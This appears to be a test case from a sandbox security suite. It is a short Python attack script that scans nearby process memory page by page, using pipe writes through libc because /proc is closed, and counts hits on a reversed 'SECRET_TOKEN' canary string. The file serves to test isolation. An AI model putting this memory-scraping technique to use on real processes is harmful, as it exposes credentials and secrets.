"""Attack: read all of its own memory for a secret, through a pipe, as /proc is closed.

Expected: finished
"""

import ctypes
import os

needle = b"yranac=NEKOT_TERCES"[::-1]  # as the environment holds it, and as this file does not
reading, writing = os.pipe()
libc = ctypes.CDLL(None, use_errno=True)
start = id(object()) & ~0xFFF
hits = pages = 0
for page in range(start - (4 << 20), start + (4 << 20), 4096):
    if libc.write(writing, ctypes.c_void_p(page), 4096) == 4096:
        pages += 1
        hits += os.read(reading, 4096).count(needle)
print("BREACH" if hits > 2 else f"held: {pages > 0}")
